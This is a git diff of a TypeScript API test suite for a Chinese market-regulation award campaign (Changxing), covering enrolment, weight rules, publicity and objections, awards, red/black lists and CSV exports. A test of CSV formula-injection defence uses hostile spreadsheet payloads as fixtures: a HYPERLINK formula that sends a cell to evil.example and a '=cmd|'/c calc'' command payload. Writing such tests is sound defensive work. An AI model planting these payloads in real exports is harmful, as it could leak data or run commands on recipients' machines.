@@ -1,22 +1,25 @@
 // The Changxing programme through the REST API: enrolment by CSV (all lines or none) and by filter, the
 // 70/30 weight rule at launch, scoring by evaluation groups, the 公示 with objections, the award, titles
 // revoked or complained about, 红黑榜 publications (only where the programme allows them, never the same
-// list twice), the summary report, CSV exports safe from formula injection, and next year's campaign.
+// list twice), the summary report, CSV exports safe from formula injection, and next year's campaign. On
+// Temporal's time-skipping test server (test/helpers-time.ts): the 公示 window ends when the test moves the clock.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import type { RosterEntry } from '../activities/award.js';
-import { startHarness, uniqueYear, waitFor, type Harness } from './helpers.js';
+import { uniqueYear, waitFor } from './helpers.js';
+import { startTimeSkippingHarness, type TimeHarness } from './helpers-time.js';
 import { startApi, type Api } from './api-helpers.js';
 import { calendarOpenAt } from './helpers-campaign.js';
 import { shanghaiDate } from '../domain/time.js';
 
-let h: Harness;
+let h: TimeHarness;
 let api: Api;
 const tokens: Record<string, string> = {};
 beforeAll(async () => {
-  h = await startHarness();
+  h = await startTimeSkippingHarness();
   api = await startApi(h);
-  for (const u of ['coord.changxing', 'coord.zhoushan', 'officer.zhicheng', 'officer.taihu', 'auditor.changxing', 'leader.changxing']) tokens[u] = await api.login(u);
+  for (const u of ['coord.changxing', 'coord.zhoushan', 'officer.zhicheng', 'officer.taihu', 'auditor.changxing', 'leader.changxing'])
+    tokens[u] = await api.login(u);
 });
 afterAll(async () => {
   await api?.close();
@@ -27,9 +30,20 @@ const q = (filter: object) => `filter=${encodeURIComponent(JSON.stringify(filter
 const uscc = async (operatorId: string) => (await h.db.operator.findUniqueOrThrow({ where: { id: operatorId } })).uscc;
 const as = (user: string) => ({ token: tokens[user]! });
 const post = (user: string, path: string, body?: unknown) => api.call('POST', path, { ...as(user), body });
+const DAY = 86_400_000;
+/** A calendar with stage `key` open for two months of the test server's clock. */
+const openAt = async (key: string) => calendarOpenAt(key, 60 * DAY, 'changxing', await h.now());
 
 async function launch(year: number, openKey: string, operatorIds: string[], settings?: object) {
-  const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year, jurisdictionId: '330522', stages: calendarOpenAt(openKey), reminderLeadHours: 0, operatorIds, ...(settings ? { settings } : {}) });
+  const r = await post('coord.changxing', '/campaigns', {
+    programme: 'changxing',
+    year,
+    jurisdictionId: '330522',
+    stages: await openAt(openKey),
+    reminderLeadHours: 0,
+    operatorIds,
+    ...(settings ? { settings } : {}),
+  });
   expect(r.status, JSON.stringify(r.body)).toBe(201);
   return r.body.id as string;
 }
@@ -37,11 +51,23 @@ async function launch(year: number, openKey: string, operatorIds: string[], sett
 describe('Changxing through the API', () => {
   it('refuses a launch whose weights break the 70/30 rule, and changes nothing', async () => {
     const year = await uniqueYear(h.db);
-    const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year, jurisdictionId: '330522', settings: { weights: { live_marketing: { department: 50 } } } });
+    const r = await post('coord.changxing', '/campaigns', {
+      programme: 'changxing',
+      year,
+      jurisdictionId: '330522',
+      settings: { weights: { live_marketing: { department: 50 } } },
+    });
     expect(r.status).toBe(400);
-    expect(r.body.fields).toEqual([expect.objectContaining({ path: 'settings.weights.live_marketing', messageEn: 'live_marketing: department + third_party must add up to 70, not 80' })]);
+    expect(r.body.fields).toEqual([
+      expect.objectContaining({ path: 'settings.weights.live_marketing', messageEn: 'live_marketing: department + third_party must add up to 70, not 80' }),
+    ]);
     expect(r.body.messageZh).toContain('权重合计须为 70');
-    const typo = await post('coord.changxing', '/campaigns', { programme: 'changxing', year, jurisdictionId: '330522', settings: { weights: { live: { department: 40 } }, awardThreshold: 101, titleValidity: 'one year' } });
+    const typo = await post('coord.changxing', '/campaigns', {
+      programme: 'changxing',
+      year,
+      jurisdictionId: '330522',
+      settings: { weights: { live: { department: 40 } }, awardThreshold: 101, titleValidity: 'one year' },
+    });
     expect(typo.body.fields.map((f: { path: string }) => f.path)).toEqual(['settings.weights.live', 'settings.awardThreshold', 'settings.titleValidity']);
     expect(await h.db.campaign.count({ where: { year } })).toBe(0);
   });
@@ -74,7 +100,12 @@ describe('Changxing through the API', () => {
     expect(await h.db.case.count({ where: { campaignId: id } })).toBe(1);
     // Enrolment by USCC names the rule each bad code breaks (GB 32100-2015), in both languages.
     const good7 = await uscc('op-cx-007');
-    const codes = [good7.slice(0, 17), `${good7.slice(0, 9)}O${good7.slice(10)}`, `${good7.slice(0, 2)}AB${good7.slice(4)}`, `${good7.slice(0, 17)}${good7[17] === '0' ? '1' : '0'}`];
+    const codes = [
+      good7.slice(0, 17),
+      `${good7.slice(0, 9)}O${good7.slice(10)}`,
+      `${good7.slice(0, 2)}AB${good7.slice(4)}`,
+      `${good7.slice(0, 17)}${good7[17] === '0' ? '1' : '0'}`,
+    ];
     const reasons = await post('coord.changxing', path, { operators: codes.map((u) => ({ uscc: u })) });
     expect(reasons.status).toBe(400);
     expect(reasons.body.fields.map((f: { messageZh: string }) => f.messageZh)).toEqual([
@@ -148,14 +179,19 @@ describe('Changxing through the API', () => {
     expect(early.status).toBe(409);
     expect(early.body).toMatchObject({
       messageZh: '红黑榜须在授予名单确定后或「总结提升」阶段进行期间发布：授予名单尚未确定，「总结提升」阶段尚未开始',
-      messageEn: 'a red or black list is published once the award is final or while stage summary (Summary) is open: the award is not final, stage summary has not started',
+      messageEn:
+        'a red or black list is published once the award is final or while stage summary (Summary) is open: the award is not final, stage summary has not started',
     });
-    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({ allowed: false, messageZh: early.body.messageZh, messageEn: early.body.messageEn });
+    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({
+      allowed: false,
+      messageZh: early.body.messageZh,
+      messageEn: early.body.messageEn,
+    });
     expect(await h.db.roster.count({ where: { campaignId: id, kind: { in: ['red', 'black'] } } })).toBe(0);
 
-    // 公示 for a short window; objections only by the coordinator, resolved before the list is final.
+    // 公示 for five days; objections only by the coordinator, resolved before the list is final.
     expect((await post('officer.zhicheng', `/campaigns/${cid}/publicity`, { days: 5 })).status).toBe(403);
-    const windowEndsAt = Date.now() + 4000;
+    const windowEndsAt = (await h.now()) + 5 * DAY;
     const pub = await post('coord.changxing', `/campaigns/${cid}/publicity`, { windowEndsAt: new Date(windowEndsAt).toISOString() });
     expect(pub.status).toBe(201);
     expect(pub.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);
@@ -165,13 +201,18 @@ describe('Changxing through the API', () => {
     const oid = encodeURIComponent(objection.body.id);
     expect((await post('officer.zhicheng', `/objections/${oid}/resolve`, { decision: 'dismissed', resolution: 'x' })).status).toBe(403);
     expect((await post('coord.changxing', `/objections/${oid}/resolve`, { decision: 'maybe', resolution: 'x' })).status).toBe(400);
-    expect((await post('coord.changxing', `/objections/${oid}/resolve`, { decision: 'dismissed', resolution: '经核查售后已整改' })).body.status).toBe('dismissed');
-    await new Promise((r) => setTimeout(r, Math.max(0, windowEndsAt - Date.now() + 100)));
+    expect((await post('coord.changxing', `/objections/${oid}/resolve`, { decision: 'dismissed', resolution: '经核查售后已整改' })).body.status).toBe(
+      'dismissed',
+    );
+    await h.skipTo(windowEndsAt);
     const award = await post('coord.changxing', `/campaigns/${cid}/award`);
     expect(award.status).toBe(201);
     expect(award.body.titles).toBe(2);
     // Once the award is final the red list may be published: both titles are in force.
-    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toMatchObject({ allowed: true, messageEn: 'may be published: the award is final' });
+    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toMatchObject({
+      allowed: true,
+      messageEn: 'may be published: the award is final',
+    });
     const red = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
     expect(red.status, JSON.stringify(red.body)).toBe(201);
     expect(red.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);
@@ -187,24 +228,36 @@ describe('Changxing through the API', () => {
     expect(revoked.status).toBe(200);
     expect(revoked.body).toMatchObject({ status: 'revoked', revokedGround: 'listed_dishonest', revokedById: 'u-officer-zhicheng' });
     expect((await post('officer.zhicheng', `/titles/${ta}/complaints`, { kind: 'complaint', description: 'x' })).status).toBe(409);
-    const complaint = await post('officer.taihu', `/titles/${encodeURIComponent(d)}/complaints`, { kind: 'public_opinion', description: '直播间言论引发负面舆情' });
+    const complaint = await post('officer.taihu', `/titles/${encodeURIComponent(d)}/complaints`, {
+      kind: 'public_opinion',
+      description: '直播间言论引发负面舆情',
+    });
     expect(complaint.status).toBe(201);
     expect(complaint.body).toMatchObject({ type: 'interview', jurisdictionId: '330522002', status: 'open' });
 
     // The case's history: its own decisions and its tasks' completions, each citing the notice.
     const trail = await api.call('GET', `/audit-events?${q({ caseId: a })}&range=[0,99]`, as('leader.changxing'));
-    expect(trail.body.map((e: { action: string }) => e.action)).toEqual(expect.arrayContaining(['case.enrolled', 'task.completed', 'case.scored', 'objection.dismissed', 'title.granted', 'title.revoked']));
-    expect(trail.body.filter((e: { action: string }) => e.action !== 'task.created').every((e: { clause: string | null }) => e.clause?.startsWith('长兴方案'))).toBe(true);
+    expect(trail.body.map((e: { action: string }) => e.action)).toEqual(
+      expect.arrayContaining(['case.enrolled', 'task.completed', 'case.scored', 'objection.dismissed', 'title.granted', 'title.revoked']),
+    );
+    expect(
+      trail.body.filter((e: { action: string }) => e.action !== 'task.created').every((e: { clause: string | null }) => e.clause?.startsWith('长兴方案')),
+    ).toBe(true);
 
     // 红黑榜: dated publications, each entry citing its ground; a newer one supersedes (a's title revoked).
     const black = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'black' });
-    expect(black.body.entries).toEqual([expect.objectContaining({ caseId: a, ground: 'listed_dishonest', groundName: expect.stringContaining('经营异常名录') })]);
+    expect(black.body.entries).toEqual([
+      expect.objectContaining({ caseId: a, ground: 'listed_dishonest', groundName: expect.stringContaining('经营异常名录') }),
+    ]);
     const red2 = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
     expect(red2.body.seq).toBe(2);
     expect(red2.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([d]);
     expect((await api.call('GET', `/rosters/${encodeURIComponent(red.body.id)}`, as('leader.changxing'))).body.superseded).toBe(true);
     // The same entries again are not a new publication.
-    for (const [kind, seq, name] of [['red', 2, '红榜'], ['black', 1, '黑榜']] as const) {
+    for (const [kind, seq, name] of [
+      ['red', 2, '红榜'],
+      ['black', 1, '黑榜'],
+    ] as const) {
       const again = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind });
       expect(again.status).toBe(409);
       expect(again.body.messageZh).toMatch(new RegExp(`^与现行${name}（第 ${seq} 期，\\d{4}-\\d{2}-\\d{2} 发布）内容相同，无需重新发布$`));
@@ -215,7 +268,9 @@ describe('Changxing through the API', () => {
     const csv = await api.call('GET', `/rosters/${encodeURIComponent(black.body.id)}/csv`, as('leader.changxing'));
     expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
     expect(csv.body).toMatch(/^序号,经营主体/);
-    const raw = await fetch(`${api.url}/api/rosters/${encodeURIComponent(black.body.id)}/csv`, { headers: { authorization: `Bearer ${tokens['leader.changxing']}` } });
+    const raw = await fetch(`${api.url}/api/rosters/${encodeURIComponent(black.body.id)}/csv`, {
+      headers: { authorization: `Bearer ${tokens['leader.changxing']}` },
+    });
     expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // BOM: Excel reads UTF-8
     expect(csv.body).toContain('经营异常名录');
 
@@ -223,7 +278,10 @@ describe('Changxing through the API', () => {
     const summary = await api.call('GET', `/campaigns/${cid}/summary`, as('leader.changxing'));
     expect(summary.body.cases).toMatchObject({ enrolled: 2, scored: 2, proposed: 2 });
     expect(summary.body.titles).toEqual({ active: 1, revoked: 1 });
-    expect(summary.body.scoreDistribution.filter((b: { count: number }) => b.count > 0)).toEqual([{ label: '85–89.99', from: 85, to: 90, count: 1 }, { label: '90–100', from: 90, to: 100, count: 1 }]);
+    expect(summary.body.scoreDistribution.filter((b: { count: number }) => b.count > 0)).toEqual([
+      { label: '85–89.99', from: 85, to: 90, count: 1 },
+      { label: '90–100', from: 90, to: 100, count: 1 },
+    ]);
     expect(summary.body.awardList.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);
     expect((await api.call('GET', `/campaigns/${cid}/summary/csv`, as('leader.changxing'))).body).toContain('授予名单');
 
@@ -239,9 +297,16 @@ describe('Changxing through the API', () => {
     expect(next.stages).toEqual(stages.map((s) => ({ key: s.key, startsAt: oneYearOn(s.startsAt), dueAt: oneYearOn(s.dueAt) })));
     expect(next.settings).toEqual(JSON.parse(before).definition.settings);
     expect(successor.body.titleHolders).toEqual([expect.objectContaining({ operatorId: 'op-cx-002', status: 'active', expiresAt: expect.any(String) })]);
-    expect(successor.body.flagged).toEqual([expect.objectContaining({ operatorId: 'op-cx-001', kind: 'revoked', groundName: expect.stringContaining('经营异常') })]);
+    expect(successor.body.flagged).toEqual([
+      expect.objectContaining({ operatorId: 'op-cx-001', kind: 'revoked', groundName: expect.stringContaining('经营异常') }),
+    ]);
     // (A year of its own: year + 1 belongs to another test of this run.)
-    const launched = await post('coord.changxing', '/campaigns', { ...next, year: await uniqueYear(h.db), stages: calendarOpenAt('mobilization'), operatorIds: ['op-cx-001', 'op-cx-002'] });
+    const launched = await post('coord.changxing', '/campaigns', {
+      ...next,
+      year: await uniqueYear(h.db),
+      stages: await openAt('mobilization'),
+      operatorIds: ['op-cx-001', 'op-cx-002'],
+    });
     expect(launched.status, JSON.stringify(launched.body)).toBe(201);
     const flags = await waitFor(async () => {
       const r = await api.call('GET', `/campaigns/${encodeURIComponent(launched.body.id)}/candidates?${q({ enrolled: true })}`, as('coord.changxing'));
@@ -249,14 +314,23 @@ describe('Changxing through the API', () => {
     }, 'enrolled candidates');
     // (Other tests' campaigns of this run flag these operators too: look at this campaign's flags.)
     const fromThisCampaign = (o: { flags: { kind: string; campaignId: string }[] }) => o.flags.filter((f) => f.campaignId === id).map((f) => f.kind);
-    expect(Object.fromEntries(flags.body.map((o: { id: string; flags: { kind: string; campaignId: string }[] }) => [o.id, fromThisCampaign(o)]))).toEqual({ 'op-cx-001': ['revoked'], 'op-cx-002': ['title_holder'] });
+    expect(Object.fromEntries(flags.body.map((o: { id: string; flags: { kind: string; campaignId: string }[] }) => [o.id, fromThisCampaign(o)]))).toEqual({
+      'op-cx-001': ['revoked'],
+      'op-cx-002': ['title_holder'],
+    });
     expect(JSON.stringify(await h.db.campaign.findUniqueOrThrow({ where: { id } }))).toBe(before);
     for (const c of [id, launched.body.id]) await h.env.client.workflow.getHandle(`campaign-${c}`).terminate('test done');
   });
 
   it('publishes 红黑榜 while 总结提升 is open even before an award, and not while 集中治理 is', async () => {
     const launchBare = async (openKey: string) => {
-      const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendarOpenAt(openKey), reminderLeadHours: 0 });
+      const r = await post('coord.changxing', '/campaigns', {
+        programme: 'changxing',
+        year: await uniqueYear(h.db),
+        jurisdictionId: '330522',
+        stages: await openAt(openKey),
+        reminderLeadHours: 0,
+      });
       expect(r.status, JSON.stringify(r.body)).toBe(201);
       await waitFor(() => h.db.stage.findFirst({ where: { campaignId: r.body.id, key: openKey, status: 'open' } }), `${openKey} open`);
       return r.body.id as string;
@@ -266,29 +340,65 @@ describe('Changxing through the API', () => {
     expect(refused.status).toBe(409);
     expect(refused.body.messageZh).toContain('「总结提升」阶段尚未开始');
     const sid = encodeURIComponent(summary);
-    expect((await api.call('GET', `/campaigns/${sid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({ allowed: true, messageZh: '可以发布：「总结提升」阶段进行中', messageEn: 'may be published: stage summary is open' });
+    expect((await api.call('GET', `/campaigns/${sid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({
+      allowed: true,
+      messageZh: '可以发布：「总结提升」阶段进行中',
+      messageEn: 'may be published: stage summary is open',
+    });
     const black = await post('coord.changxing', `/campaigns/${sid}/rosters`, { kind: 'black' });
     expect(black.status, JSON.stringify(black.body)).toBe(201);
     expect(black.body).toMatchObject({ kind: 'black', seq: 1, entries: [] });
     expect((await post('coord.changxing', `/campaigns/${sid}/rosters`, { kind: 'black' })).status).toBe(409); // the same (empty) list
     const audit = await h.db.auditEvent.findMany({ where: { campaignId: summary, action: 'roster.published' } });
-    expect(audit.map((e) => [e.entityId, e.actorId, e.clause])).toEqual([[black.body.id, 'u-coord-changxing', '长兴方案 四、工作要求（三）（红黑榜，定期公示）']]);
+    expect(audit.map((e) => [e.entityId, e.actorId, e.clause])).toEqual([
+      [black.body.id, 'u-coord-changxing', '长兴方案 四、工作要求（三）（红黑榜，定期公示）'],
+    ]);
     for (const c of [during, summary]) await h.env.client.workflow.getHandle(`campaign-${c}`).terminate('test done');
   });
 
   it('writes formula-like cells of its CSVs as text (OWASP CSV injection): a leading quote, numbers kept', async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
-    const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', name: formula, stages: calendarOpenAt('mobilization'), reminderLeadHours: 0 });
+    const r = await post('coord.changxing', '/campaigns', {
+      programme: 'changxing',
+      year: await uniqueYear(h.db),
+      jurisdictionId: '330522',
+      name: formula,
+      stages: await openAt('mobilization'),
+      reminderLeadHours: 0,
+    });
     expect(r.status, JSON.stringify(r.body)).toBe(201);
     const id = r.body.id as string;
     // Lists as a hostile register would make them (names and codes are typed by people outside the bureau).
-    const entry = (n: number, over: Partial<RosterEntry>): RosterEntry => ({ caseId: `${id}:x${n}`, operatorId: `x${n}`, operatorName: `主体${n}`, uscc: '', jurisdictionId: '330522001', jurisdictionName: '雉城市场监管所', track: null, totalScore: 90, ground: 'title', groundName: '称号有效', since: '2100-01-01', ...over });
+    const entry = (n: number, over: Partial<RosterEntry>): RosterEntry => ({
+      caseId: `${id}:x${n}`,
+      operatorId: `x${n}`,
+      operatorName: `主体${n}`,
+      uscc: '',
+      jurisdictionId: '330522001',
+      jurisdictionName: '雉城市场监管所',
+      track: null,
+      totalScore: 90,
+      ground: 'title',
+      groundName: '称号有效',
+      since: '2100-01-01',
+      ...over,
+    });
     const entries = [
       entry(1, { operatorName: formula, uscc: '+8613800000000', totalScore: -3 }),
-      entry(2, { operatorName: '@SUM(A1:A9)', uscc: '-1+1', track: '\t=1+1', groundName: '\r=cmd|\'/c calc\'!A1' }),
+      entry(2, { operatorName: '@SUM(A1:A9)', uscc: '-1+1', track: '\t=1+1', groundName: "\r=cmd|'/c calc'!A1" }),
       entry(3, { operatorName: '普通主体 = 正常', groundName: 'a-b' }),
     ];
-    await h.db.roster.createMany({ data: ['red', 'award'].map((kind) => ({ id: `${id}:${kind}:1`, campaignId: id, kind, seq: 1, publishedAt: new Date(), publishedById: 'u-coord-changxing', entries: entries as object[] })) });
+    await h.db.roster.createMany({
+      data: ['red', 'award'].map((kind) => ({
+        id: `${id}:${kind}:1`,
+        campaignId: id,
+        kind,
+        seq: 1,
+        publishedAt: new Date(),
+        publishedById: 'u-coord-changxing',
+        entries: entries as object[],
+      })),
+    });
     const download = async (path: string) => {
       const res = await fetch(`${api.url}/api${path}`, { headers: { authorization: `Bearer ${tokens['leader.changxing']}` } });
       expect(res.status).toBe(200);
